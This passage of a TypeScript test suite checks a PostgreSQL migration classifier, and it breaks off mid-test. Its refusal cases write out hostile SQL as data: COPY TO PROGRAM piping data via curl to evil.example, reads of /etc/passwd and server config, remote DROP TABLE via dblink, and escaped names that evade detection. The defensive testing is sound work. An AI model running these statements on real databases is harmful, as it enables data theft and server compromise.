/**
 * The migration classifier (SPEC C2). Every refusal code gets inputs that must fire it, tricky
 * spellings included, and a clean migration must stay accepted, so a classifier that refuses
 * everything fails here as surely as one that accepts everything. Property tests compose clean
 * scripts and slip one forbidden statement in at a random place.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ClassifierRefusalCode } from "../../../src/lane/rehearsal/classify/classify.js";
import {
  CLASSIFIER_REFUSAL_CODES,
  MAX_MIGRATION_BYTES,
  classifyMigration,
} from "../../../src/lane/rehearsal/classify/classify.js";

/** "accepted" or the refusal code: one string, so a failing assertion shows what happened. */
async function outcome(sql: string): Promise<string> {
  const result = await classifyMigration(sql);
  return result.ok ? "accepted" : result.error.code;
}

type Case = readonly [label: string, sql: string];

/** Codes some table below must fire: checked at the end so no code goes untested. */
const codesExercised = new Set<ClassifierRefusalCode>();

function refusedCases(code: ClassifierRefusalCode, cases: readonly Case[]): void {
  codesExercised.add(code);
  it.each(cases)(`${code}: %s`, async (_label, sql) => {
    expect(await outcome(sql)).toBe(code);
  });
}

describe("a clean migration stays accepted", () => {
  const clean = `
    CREATE TABLE accounts (
      id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
      email text NOT NULL UNIQUE,
      created_at timestamptz NOT NULL DEFAULT now()
    );
    INSERT INTO accounts (email) VALUES ('a@example.org'), ('b@example.org');
    ALTER TABLE accounts ADD COLUMN display_name text;
    CREATE INDEX accounts_created_at ON accounts (created_at);
    CREATE SEQUENCE invoice_numbers START 1000;
    SELECT nextval('invoice_numbers');
    CREATE VIEW recent_accounts AS SELECT id, email FROM accounts WHERE created_at > now() - interval '7 days';
    UPDATE accounts SET display_name = split_part(email, '@', 1) WHERE display_name IS NULL;
    DELETE FROM accounts WHERE email LIKE '%@invalid';
    COMMENT ON TABLE accounts IS 'people who can log in';
  `;

  it("accepts it and reports its statements in order", async () => {
    const result = await classifyMigration(clean);
    expect(result).toEqual({
      ok: true,
      value: {
        statementCount: 10,
        statementTypes: [
          "CreateStmt",
          "InsertStmt",
          "AlterTableStmt",
          "IndexStmt",
          "CreateSeqStmt",
          "SelectStmt",
          "ViewStmt",
          "UpdateStmt",
          "DeleteStmt",
          "CommentStmt",
        ],
        parserVersion: 150001,
      },
    });
  });

  it.each<Case>([
    [
      "dollar-quoted strings that contain COMMIT",
      "INSERT INTO notes VALUES ($$COMMIT$$), ($t$ROLLBACK; BEGIN;$t$)",
    ],
    ["a string that spells a whole forbidden script", "SELECT 'COMMIT; COPY t TO PROGRAM ''x''; VACUUM'"],
    ["a comment that says COMMIT", "-- COMMIT here?\nINSERT INTO t VALUES (1) /* then VACUUM */"],
    ["COMMENT ON text with forbidden words", "COMMENT ON COLUMN t.a IS 'do not COMMIT; see dblink docs'"],
    [
      "identifiers that contain forbidden words",
      "CREATE TABLE audit (committed_at timestamptz, rollback_reason text, copy_count int)",
    ],
    ["ANALYZE (decision: allowed)", "ANALYZE accounts"],
    ["ANALYZE VERBOSE on columns", "ANALYZE VERBOSE accounts (email)"],
    ["setval, nextval, currval", "SELECT setval('s', 10), nextval('s'), currval('s')"],
    [
      "current_setting, txid_current, pg_current_xact_id",
      "SELECT current_setting('search_path'), txid_current(), pg_current_xact_id()",
    ],
    [
      "transaction-level advisory locks",
      "SELECT pg_advisory_xact_lock(1), pg_try_advisory_xact_lock_shared(2)",
    ],
    [
      "GRANT and REVOKE on objects",
      "GRANT SELECT, INSERT ON accounts TO app; REVOKE ALL ON accounts FROM PUBLIC",
    ],
    ["GRANT on all tables in a schema", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO reporting"],
    ["default privileges", "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO reporting"],
    [
      "schemas, enums, domains, composite types",
      "CREATE SCHEMA app; CREATE TYPE app.mood AS ENUM ('ok'); ALTER TYPE app.mood ADD VALUE 'meh'; CREATE DOMAIN app.pos AS int CHECK (VALUE > 0); CREATE TYPE app.pair AS (a int, b int)",
    ],
    [
      "CREATE SCHEMA with elements",
      "CREATE SCHEMA app CREATE TABLE things (id int) CREATE VIEW v AS SELECT 1",
    ],
    [
      "renames, drops, owners, schemas",
      "ALTER TABLE t RENAME COLUMN a TO b; DROP TABLE IF EXISTS old CASCADE; ALTER TABLE t OWNER TO app; ALTER TABLE t SET SCHEMA app",
    ],
    ["TRUNCATE with RESTART IDENTITY", "TRUNCATE t RESTART IDENTITY"],
    [
      "policies and row level security",
      "ALTER TABLE t ENABLE ROW LEVEL SECURITY; CREATE POLICY own ON t USING (owner = current_user)",
    ],
    [
      "materialized views refreshed without CONCURRENTLY",
      "CREATE MATERIALIZED VIEW m AS SELECT 1; REFRESH MATERIALIZED VIEW m",
    ],
    [
      "MERGE",
      "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
    ],
    [
      "LOCK and SET CONSTRAINTS (transaction-scoped)",
      "LOCK TABLE t IN ACCESS EXCLUSIVE MODE; SET CONSTRAINTS ALL DEFERRED",
    ],
    ["CLUSTER and REINDEX on one table", "CLUSTER t USING t_pkey; REINDEX TABLE t; REINDEX INDEX t_pkey"],
    ["CREATE TABLE AS and SELECT INTO", "CREATE TABLE t2 AS SELECT * FROM t; SELECT * INTO t3 FROM t"],
    ["DETACH PARTITION without CONCURRENTLY", "ALTER TABLE p DETACH PARTITION c"],
    ["CTEs that modify data", "WITH moved AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM moved"],
    [
      "a plpgsql trigger function and its trigger",
      "CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); UPDATE counters SET n = n + 1 WHERE id = NEW.id; RETURN NEW; END $$; CREATE TRIGGER touch BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION touch()",
    ],
    [
      "a LANGUAGE sql function with its own SET clause",
      "CREATE FUNCTION inc(a int) RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog AS 'SELECT a + 1'",
    ],
    ["ALTER FUNCTION … SET (scoped to the function)", "ALTER FUNCTION inc(int) SET search_path = pg_catalog"],
    ["a SQL-standard function body", "CREATE FUNCTION one() RETURNS int LANGUAGE sql IMMUTABLE RETURN 1"],
    ["a BEGIN ATOMIC body", "CREATE FUNCTION two() RETURNS int BEGIN ATOMIC; SELECT 1 + 1; END"],
    [
      "a SQL function body that only holds comments",
      "CREATE FUNCTION nop() RETURNS void LANGUAGE sql AS '-- nothing'",
    ],
    [
      "CREATE AGGREGATE with ordinary functions",
      "CREATE AGGREGATE total (int) (SFUNC = int4pl, STYPE = int)",
    ],
    ["a qualified column whose name is harmless", "SELECT t.lo, t.logged FROM t"],
    ["a forbidden word as a plain column name", "SELECT dblink_id FROM links"],
  ])("accepts %s", async (_label, sql) => {
    expect(await outcome(sql)).toBe("accepted");
  });
});

describe("input limits", () => {
  refusedCases("empty", [
    ["nothing", ""],
    ["whitespace", " \n\t  \r\n"],
    ["a line comment", "-- nothing to do"],
    ["a block comment", "/* nothing */"],
    ["semicolons", ";;;"],
    ["comments and semicolons", "-- a\n;\n/* b */ ;"],
  ]);

  refusedCases("too_large", [
    ["one byte over 1 MiB", `SELECT 1;${" ".repeat(MAX_MIGRATION_BYTES)}`],
    ["over 1 MiB of UTF-8 in fewer characters", `SELECT '${"é".repeat(MAX_MIGRATION_BYTES / 2)}'`],
  ]);

  it("accepts a migration of exactly 1 MiB", async () => {
    const head = "SELECT 1;";
    expect(await outcome(head + " ".repeat(MAX_MIGRATION_BYTES - head.length))).toBe("accepted");
  });

  refusedCases("invalid_text", [
    ["a NUL that would hide what follows from the C parser", "SELECT 1;\u0000COMMIT"],
    ["a lone high surrogate", "SELECT '\uD800'"],
    ["a lone low surrogate", "SELECT '\uDC00x'"],
  ]);

  it("accepts characters outside the BMP (paired surrogates)", async () => {
    expect(await outcome("SELECT '😀'")).toBe("accepted");
  });
});

describe("unparseable", () => {
  refusedCases("unparseable", [
    ["a psql meta-command", "\\dt"],
    ["a meta-command after SQL", "CREATE TABLE t (a int);\n\\i other.sql"],
    ["\\connect", "\\connect production\nDROP TABLE t;"],
    ["\\gexec", "SELECT 'VACUUM' \\gexec"],
    ["a typo", "SELEC 1"],
    [
      "a broken statement in a long script",
      "CREATE TABLE a (id int);\nINSERT INTO a VALUES (1);\nCREATE TABLE (;",
    ],
    ["syntax newer than PostgreSQL 15 (IS JSON)", "SELECT '{}' IS JSON"],
    ["keywords split by a comment", "COM/**/MIT"],
    ["a SQL function body that does not parse", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELEC 1'"],
  ]);
});

describe("transaction_control", () => {
  refusedCases("transaction_control", [
    ["BEGIN", "BEGIN"],
    ["begin work, lower case", "begin work;"],
    ["START TRANSACTION with modes", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE"],
    ["COMMIT", "COMMIT"],
    ["commit and chain", "commit and chain"],
    ["comments between keywords", "COMMIT /* done */ AND -- really\n CHAIN"],
    ["END alone", "END"],
    ["End Transaction, mixed case", "End Transaction"],
    ["ROLLBACK", "ROLLBACK"],
    ["ABORT", "abort"],
    ["SAVEPOINT", "SAVEPOINT before_change"],
    ["RELEASE", "RELEASE before_change"],
    ["RELEASE SAVEPOINT", "RELEASE SAVEPOINT before_change"],
    ["ROLLBACK TO", "rollback /* x */ to savepoint before_change"],
    ["PREPARE TRANSACTION", "PREPARE TRANSACTION 'escape'"],
    ["COMMIT PREPARED", "COMMIT PREPARED 'escape'"],
    ["ROLLBACK PREPARED", "ROLLBACK PREPARED 'escape'"],
    ["SET TRANSACTION", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE"],
    ["SET TRANSACTION SNAPSHOT", "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'"],
    ["SET SESSION CHARACTERISTICS", "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY"],
    ["CALL", "CALL do_the_thing()"],
    ["CALL, qualified, lower case", "call app.do_the_thing(1, 'x')"],
    ["COMMIT inside a BEGIN ATOMIC body", "CREATE PROCEDURE p() BEGIN ATOMIC; COMMIT; END"],
  ]);

  it("points at COMMIT after a ; deep in a long script", async () => {
    const script = [
      "CREATE TABLE a (id int)",
      "INSERT INTO a VALUES (1), (2)",
      "ALTER TABLE a ADD COLUMN b text",
      "UPDATE a SET b = 'COMMIT' WHERE id = 1",
      "COMMIT",
      "INSERT INTO a VALUES (3)",
    ].join(";\n");
    const result = await classifyMigration(script);
    expect(result).toMatchObject({
      ok: false,
      error: { code: "transaction_control", statementIndex: 4, nodeType: "TransactionStmt" },
    });
  });
});

describe("non_transactional", () => {
  refusedCases("non_transactional", [
    ["CREATE DATABASE", "CREATE DATABASE other"],
    ["DROP DATABASE", "drop database if exists other"],
    ["ALTER DATABASE", "ALTER DATABASE other ALLOW_CONNECTIONS false"],
    ["VACUUM", "VACUUM"],
    ["VACUUM FULL on a table", "vacuum full accounts"],
    ["VACUUM (ANALYZE)", "VACUUM (ANALYZE) accounts"],
    ["CLUSTER without a table", "CLUSTER"],
    ["REINDEX DATABASE", "REINDEX DATABASE app"],
    ["REINDEX SYSTEM", "REINDEX SYSTEM app"],
    ["REINDEX SCHEMA", "REINDEX SCHEMA public"],
    ["CREATE INDEX CONCURRENTLY", "CREATE INDEX CONCURRENTLY i ON t (a)"],
    [
      "create unique index concurrently if not exists",
      "create unique index concurrently if not exists i on t (a)",
    ],
    ["DROP INDEX CONCURRENTLY", "DROP INDEX CONCURRENTLY i"],
    ["REINDEX (CONCURRENTLY)", "REINDEX (CONCURRENTLY) INDEX i"],
    ["REINDEX … CONCURRENTLY", "REINDEX TABLE CONCURRENTLY t"],
    ["REFRESH MATERIALIZED VIEW CONCURRENTLY", "REFRESH MATERIALIZED VIEW CONCURRENTLY m"],
    ["DETACH PARTITION CONCURRENTLY", "ALTER TABLE p DETACH PARTITION c CONCURRENTLY"],
    ["ALTER SYSTEM", "ALTER SYSTEM SET work_mem = '1GB'"],
    ["CREATE TABLESPACE", "CREATE TABLESPACE fast LOCATION '/mnt/fast'"],
    ["DROP TABLESPACE", "DROP TABLESPACE fast"],
    ["ALTER TABLESPACE", "ALTER TABLESPACE fast SET (random_page_cost = 1)"],
    ["ALTER TABLE ALL IN TABLESPACE", "ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b"],
    ["CHECKPOINT", "CHECKPOINT"],
    ["LOAD", "LOAD 'auto_explain'"],
    ["DISCARD", "DISCARD ALL"],
    ["LISTEN", "LISTEN jobs"],
    ["NOTIFY", "NOTIFY jobs, 'ready'"],
    ["UNLISTEN", "UNLISTEN *"],
    ["pg_notify()", "SELECT pg_notify('jobs', 'ready')"],
    ["an autonomous transaction (pg_background)", "SELECT pg_background_launch('DELETE FROM t')"],
    ["NOTIFY as a rule action", "CREATE RULE r AS ON INSERT TO t DO ALSO NOTIFY jobs"],
    [
      "pg_notify in a trigger WHEN",
      "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW WHEN (pg_notify('a', 'b') IS NULL) EXECUTE FUNCTION f()",
    ],
  ]);
});

describe("cluster_wide", () => {
  refusedCases("cluster_wide", [
    ["CREATE ROLE", "CREATE ROLE auditor"],
    ["CREATE USER with a password", "CREATE USER app WITH PASSWORD 'hunter2'"],
    ["CREATE GROUP", "create group readers"],
    ["ALTER ROLE", "ALTER ROLE app SUPERUSER"],
    ["ALTER USER … RENAME", "ALTER USER app RENAME TO app2"],
    ["ALTER ROLE … SET", "ALTER ROLE app SET search_path = evil"],
    ["DROP ROLE", "DROP ROLE auditor"],
    ["DROP USER IF EXISTS", "drop user if exists app"],
    ["GRANT role membership", "GRANT admin TO app"],
    ["REVOKE role membership", "REVOKE admin FROM app"],
    ["REASSIGN OWNED", "REASSIGN OWNED BY old TO new"],
    ["DROP OWNED", "DROP OWNED BY old"],
    ["SECURITY LABEL", "SECURITY LABEL ON TABLE t IS 'secret'"],
    ["ALTER DATABASE … SET", "ALTER DATABASE app SET work_mem = '1MB'"],
    ["ALTER DATABASE … OWNER", "ALTER DATABASE app OWNER TO someone"],
    ["ALTER DATABASE … RENAME", "ALTER DATABASE app RENAME TO app2"],
    ["COMMENT ON DATABASE", "COMMENT ON DATABASE app IS 'x'"],
    ["COMMENT ON ROLE", "COMMENT ON ROLE app IS 'x'"],
    ["COMMENT ON TABLESPACE", "COMMENT ON TABLESPACE fast IS 'x'"],
    ["GRANT on a database", "GRANT CONNECT ON DATABASE app TO someone"],
    ["GRANT SET ON PARAMETER", "GRANT SET ON PARAMETER work_mem TO someone"],
    ["pg_terminate_backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"],
    ["PG_CATALOG.PG_RELOAD_CONF, upper case", "SELECT PG_CATALOG.PG_RELOAD_CONF()"],
    ["pg_stat_reset family", "SELECT pg_stat_reset_shared('bgwriter')"],
  ]);
});

describe("side_channel", () => {
  refusedCases("side_channel", [
    ["CREATE LANGUAGE without a handler (an extension since PostgreSQL 13)", "CREATE LANGUAGE plperl"],
    ["COPY FROM a file", "COPY t FROM '/etc/passwd'"],
    ["COPY TO PROGRAM", "COPY t TO PROGRAM 'curl -d @- https://evil.example'"],
    ["COPY FROM STDIN", "COPY t FROM STDIN"],
    ["COPY (query) TO STDOUT", "copy (select * from t) to stdout with (format csv)"],
    ["CREATE EXTENSION", "CREATE EXTENSION dblink"],
    ["create extension if not exists", "create extension if not exists postgres_fdw with schema ext"],
    ["ALTER EXTENSION", "ALTER EXTENSION hstore UPDATE"],
    ["DROP EXTENSION", "DROP EXTENSION hstore"],
    ["CREATE FOREIGN DATA WRAPPER", "CREATE FOREIGN DATA WRAPPER w"],
    ["CREATE SERVER", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')"],
    ["CREATE USER MAPPING", "CREATE USER MAPPING FOR app SERVER s OPTIONS (password 'x')"],
    ["CREATE FOREIGN TABLE", "CREATE FOREIGN TABLE ft (a int) SERVER s"],
    ["IMPORT FOREIGN SCHEMA", "IMPORT FOREIGN SCHEMA remote FROM SERVER s INTO local"],
    ["DROP SERVER", "DROP SERVER s"],
    ["CREATE SUBSCRIPTION", "CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION p"],
    ["CREATE PUBLICATION", "CREATE PUBLICATION p FOR ALL TABLES"],
    ["dblink_exec", "SELECT dblink_exec('host=evil', 'DROP TABLE t')"],
    ["dblink in FROM", "SELECT * FROM dblink('host=x', 'SELECT 1') AS r(a int)"],
    ["DBLINK_CONNECT in capitals", "SELECT DBLINK_CONNECT('host=x')"],
    ["dblink in another schema", "SELECT ext.dblink_send_query('c', 'x')"],
    ["lo_import", "SELECT lo_import('/etc/passwd')"],
    ["lo_export", "SELECT lo_export(1234, '/tmp/out')"],
    ["lo_unlink (decision: refused)", "SELECT lo_unlink(1234)"],
    ["pg_read_file", "SELECT pg_read_file('postgresql.conf')"],
    ["pg_catalog.pg_read_file, schema-qualified", "SELECT pg_catalog.pg_read_file('postgresql.conf')"],
    ["PG_READ_BINARY_FILE in capitals", "SELECT PG_READ_BINARY_FILE('x')"],
    ["a quoted name", "SELECT \"pg_read_file\"('x')"],
    ["a Unicode-escaped quoted name", "SELECT U&\"pg_read_fil\\0065\"('x')"],
    ["pg_ls_dir", "SELECT pg_ls_dir('.')"],
    ["pg_stat_file", "SELECT pg_stat_file('PG_VERSION')"],
    ["pg_file_write", "SELECT pg_file_write('x', 'y', false)"],
    ["nested in a CTE", "WITH x AS (SELECT pg_read_file('f') AS f) SELECT * FROM x"],
    ["nested in a subquery", "UPDATE t SET a = (SELECT pg_read_file('f'))"],
    ["nested in a DEFAULT", "CREATE TABLE t (a text DEFAULT pg_catalog.pg_read_file('x'))"],
    ["nested in ALTER … SET DEFAULT", "ALTER TABLE t ALTER COLUMN a SET DEFAULT lo_import('/x')"],
    ["nested in a CHECK", "CREATE TABLE t (a int CHECK (lo_unlink(a) = 1))"],
    ["nested in a view", "CREATE VIEW v AS SELECT dblink('host=x', 'SELECT 1')"],
    [
      "nested in a trigger WHEN",
      "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW WHEN (pg_read_file('x') IS NULL) EXECUTE FUNCTION f()",
    ],
    ["nested in a policy", "CREATE POLICY p ON t USING (pg_read_file('x') IS NOT NULL)"],
    ["nested in an index expression", "CREATE INDEX i ON t ((pg_read_file(a)))"],
    [
      "nested in a BEGIN ATOMIC body",
      "CREATE FUNCTION f() RETURNS text BEGIN ATOMIC; SELECT pg_read_file('x'); END",
    ],
    ["nested in a RETURN body", "CREATE FUNCTION f() RETURNS text RETURN pg_read_file('x')"],
    [
      "in a LANGUAGE sql string body",
      "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('x') $$",
    ],
    [
      "two levels of LANGUAGE sql string bodies",
      "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $a$ CREATE FUNCTION g() RETURNS text LANGUAGE sql AS $b$ SELECT lo_import('/x') $b$ $a$",
    ],
    ["attribute notation", "SELECT ('PG_VERSION'::text).pg_read_file"],
    ["attribute notation on a column", "SELECT t.path.pg_read_file FROM t"],
    [
      "an operator over a forbidden function",
      "CREATE OPERATOR === (FUNCTION = pg_read_file, LEFTARG = text, RIGHTARG = int)",
    ],
    [
      "an aggregate over a forbidden function",
      "CREATE AGGREGATE a (text) (SFUNC = dblink_exec, STYPE = text)",
    ],
    ["a cast through a forbidden function", "CREATE CAST (int AS text) WITH FUNCTION lo_export(int, text)"],
    [
      "a function that would shadow one",
      "CREATE FUNCTION public.dblink(text) RETURNS int LANGUAGE sql AS 'SELECT 1'",
    ],
    ["GRANT EXECUTE on a forbidden function", "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO app"],
    ["GRANT on a large object", "GRANT SELECT ON LARGE OBJECT 1234 TO app"],
  ]);
});

describe("session_state", () => {
  refusedCases("session_state", [
    ["SET search_path", "SET search_path = evil, public"],
    ["set search_path to, lower case", "set search_path to public, pg_catalog"],
    ["SET LOCAL", "SET LOCAL work_mem = '1MB'"],
    ["SET session_replication_role", "SET session_replication_role = replica"],
    ["SET TIME ZONE", "SET TIME ZONE 'UTC'"],
    ["RESET", "RESET search_path"],
    ["RESET ALL", "RESET ALL"],
    ["SET ROLE", "SET ROLE admin"],
    ["RESET ROLE", "RESET ROLE"],
    ["SET SESSION AUTHORIZATION", "SET SESSION AUTHORIZATION admin"],
    ["set_config", "SELECT set_config('search_path', 'evil', false)"],
    [
      "pg_catalog.set_config in a WHERE",
      "DELETE FROM t WHERE pg_catalog.set_config('role', 'x', true) IS NULL",
    ],
    ["a session-level advisory lock (decision: refused)", "SELECT pg_advisory_lock(42)"],
    ["pg_try_advisory_lock", "SELECT pg_try_advisory_lock(42)"],
    ["PREPARE", "PREPARE p AS SELECT 1"],
    ["EXECUTE", "EXECUTE p"],
    ["DEALLOCATE", "DEALLOCATE ALL"],
    ["CREATE TABLE AS EXECUTE", "CREATE TABLE t2 AS EXECUTE p"],
  ]);
});

describe("opaque_code", () => {
  refusedCases("opaque_code", [
    ["DO", "DO $$ BEGIN END $$"],
    ["do language plpgsql, lower case", "do language plpgsql 'begin null; end'"],
    ["a function in plpython3u", "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'"],
    [
      "an internal function aliasing a builtin",
      "CREATE FUNCTION innocent(text) RETURNS text LANGUAGE internal AS 'pg_read_file'",
    ],
    ["a C function", "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'"],
    ["a function without LANGUAGE", "CREATE FUNCTION f() RETURNS int AS 'SELECT 1'"],
    [
      "plpgsql with COMMIT",
      "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN INSERT INTO t VALUES (1); COMMIT; END $$",
    ],
    [
      "plpgsql with ROLLBACK in mixed case",
      "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN RollBack; END $$",
    ],
    [
      "plpgsql with EXECUTE",
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
    ],
    [
      "plpgsql with RETURN QUERY EXECUTE",
      "CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'SELECT 1'; END $$",
    ],
    [
      "plpgsql calling dblink",
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM dblink_exec('h', 'x'); END $$",
    ],
    [
      "plpgsql spelling a name in Unicode escapes",
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM U&\"db\\006cink\"('x'); END $$",
    ],
    [
      "plpgsql with COPY",
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY t TO '/tmp/x'; END $$",
    ],
    [
      "plpgsql with DDL",
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN CREATE ROLE r; END $$",
    ],
    [
      "plpgsql with RESET",
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN RESET ROLE; END $$",
    ],
    ["query_to_xml", "SELECT query_to_xml('SELECT pg_read_file(''x'')', true, true, '')"],
    ["ts_stat", "SELECT * FROM ts_stat('SELECT to_tsvector(body) FROM docs')"],
  ]);
});

describe("not_allowed: outside the allowlist", () => {
  refusedCases("not_allowed", [
    ["EXPLAIN ANALYZE", "EXPLAIN ANALYZE DELETE FROM t"],
    ["SHOW", "SHOW search_path"],
    ["DECLARE CURSOR", "DECLARE c CURSOR WITH HOLD FOR SELECT 1"],
    ["FETCH", "FETCH ALL FROM c"],
    ["CLOSE", "CLOSE c"],
    ["CREATE EVENT TRIGGER", "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()"],
    ["CREATE LANGUAGE with a handler", "CREATE LANGUAGE plsample HANDLER plsample_call_handler"],
    ["DROP LANGUAGE", "DROP LANGUAGE plperl"],
    ["CREATE ACCESS METHOD", "CREATE ACCESS METHOD heap2 TYPE TABLE HANDLER heap_tableam_handler"],
    ["CREATE OPERATOR CLASS", "CREATE OPERATOR CLASS c FOR TYPE int USING btree AS OPERATOR 1 <"],
    [
      "CREATE TEXT SEARCH PARSER",
      "CREATE TEXT SEARCH PARSER p (START = a, GETTOKEN = b, END = c, LEXTYPES = d)",
    ],
  ]);
});

describe("refusals", () => {
  it("every code is distinct and fired by some table above", () => {
    expect(new Set(CLASSIFIER_REFUSAL_CODES).size).toBe(CLASSIFIER_REFUSAL_CODES.length);
    expect([...codesExercised].sort()).toEqual([...CLASSIFIER_REFUSAL_CODES].sort());
  });

  it.each<Case>([
    [
      "a syntax error at a secret",
      "SELECT 1; SELECT 1 FROM s3cr3t_t0ken_value s3cr3t_t0ken_value s3cr3t_t0ken_value",
    ],
    ["COPY with a secret path", "COPY t TO PROGRAM 's3cr3t_t0ken_value'"],
    [
      "a user mapping with a secret",
      "CREATE USER MAPPING FOR app SERVER s OPTIONS (password 's3cr3t_t0ken_value')",
    ],
    ["a role with a secret password", "CREATE ROLE r PASSWORD 's3cr3t_t0ken_value'"],
    ["SET with a secret value", "SET app.key = 's3cr3t_t0ken_value'"],
    [
      "a plpgsql body with a secret",
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 's3cr3t_t0ken_value'; END $$",
    ],
    ["a language named like a secret", "CREATE FUNCTION f() RETURNS int LANGUAGE s3cr3t_t0ken_value AS 'x'"],
    ["a forbidden call on a secret", "SELECT dblink_connect('password=s3cr3t_t0ken_value')"],
  ])("never carry the migration's text: %s", async (_label, sql) => {
    const result = await classifyMigration(sql);
    expect(result.ok).toBe(false);
    expect(JSON.stringify(result)).not.toContain("s3cr3t_t0ken_value");
  });

  it("names the node and the statement at fault", async () => {
    const result = await classifyMigration(
      "CREATE TABLE t (a int);\nWITH x AS (SELECT lo_import('/x')) SELECT * FROM x",
    );
    expect(result).toMatchObject({
      ok: false,
      error: { code: "side_channel", statementIndex: 1, nodeType: "FuncCall" },
    });
  });

  it("never throws, whatever the string", async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: "binary", maxLength: 200 }), async (sql) => {
        const result = await classifyMigration(sql);
        expect(typeof result.ok).toBe("boolean");
      }),
      { numRuns: 200 },
    );
  });
});

/** Single statements, so that counts and indexes line up with the array. */
const CLEAN_STATEMENTS: readonly string[] = [
  "CREATE TABLE IF NOT EXISTS items (id bigint PRIMARY KEY, name text NOT NULL DEFAULT 'x')",
  "INSERT INTO items (id, name) VALUES (1, 'a'), (2, $$COMMIT$$)",
  "ALTER TABLE items ADD COLUMN price numeric(10, 2)",
  "CREATE INDEX IF NOT EXISTS items_name ON items (lower(name))",
  "CREATE SEQUENCE IF NOT EXISTS item_ids",
  "SELECT nextval('item_ids')",
  "CREATE OR REPLACE VIEW item_names AS SELECT id, name FROM items",
  "UPDATE items SET price = 0 WHERE price IS NULL",
  "DELETE FROM items WHERE id < 0",
  "COMMENT ON TABLE items IS 'ROLLBACK; VACUUM; -- not really'",
  "GRANT SELECT ON items TO PUBLIC",
  "ANALYZE items",
  "TRUNCATE scratch",
  "SELECT pg_advisory_xact_lock(7)",
  "CREATE FUNCTION bump() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.price := NEW.price + 1; RETURN NEW; END $$",
  "CREATE FUNCTION twice(a int) RETURNS int LANGUAGE sql AS 'SELECT a * 2'",
];

const FORBIDDEN_STATEMENTS: ReadonlyArray<readonly [string, ClassifierRefusalCode]> = [
  ["COMMIT", "transaction_control"],
  ["end", "transaction_control"],
  ["commit and chain", "transaction_control"],
  ["SAVEPOINT s", "transaction_control"],
  ["PREPARE TRANSACTION 'x'", "transaction_control"],
  ["CALL p()", "transaction_control"],
  ["SET TRANSACTION READ ONLY", "transaction_control"],
  ["VACUUM items", "non_transactional"],
  ["CREATE INDEX CONCURRENTLY i2 ON items (id)", "non_transactional"],
  ["DROP DATABASE other", "non_transactional"],
  ["NOTIFY ch", "non_transactional"],
  ["ALTER SYSTEM SET work_mem = '1GB'", "non_transactional"],
  ["CREATE ROLE r", "cluster_wide"],
  ["GRANT admin TO app", "cluster_wide"],
  ["COMMENT ON DATABASE app IS 'x'", "cluster_wide"],
  ["COPY items TO '/tmp/x'", "side_channel"],
  ["CREATE EXTENSION dblink", "side_channel"],
  ["SELECT pg_catalog.pg_read_file('x')", "side_channel"],
  ["WITH x AS (SELECT dblink_exec('a', 'b')) SELECT * FROM x", "side_channel"],
  ["SET search_path = evil", "session_state"],
  ["SET ROLE admin", "session_state"],
  ["SELECT set_config('role', 'x', false)", "session_state"],
  ["DO $$ BEGIN END $$", "opaque_code"],
  ["EXPLAIN ANALYZE SELECT 1", "not_allowed"],
];

const separator = fc.constantFrom(";\n", "; ", ";\n-- note\n", ";/* c */", "\n;\n", ";\r\n\t");
const cleanScript = fc.array(fc.constantFrom(...CLEAN_STATEMENTS), { minLength: 1, maxLength: 10 });

function join(statements: readonly string[], separators: readonly string[]): string {
  return statements
    .map((s, i) => (i === 0 ? s : `${separators[i % separators.length] ?? ";\n"}${s}`))
    .join("");
}

describe("properties", () => {
  it("random compositions of clean statements are accepted and counted", async () => {
    await fc.assert(
      fc.asyncProperty(
        cleanScript,
        fc.array(separator, { minLength: 1, maxLength: 4 }),
        async (stmts, seps) => {
          const result = await classifyMigration(join(stmts, seps));
          expect(result.ok && result.value.statementCount).toBe(stmts.length);
        },
      ),
      { numRuns: 150 },
    );
  });

  it("one forbidden statement anywhere in a clean script is refused with its code, at its index", async () => {
    await fc.assert(
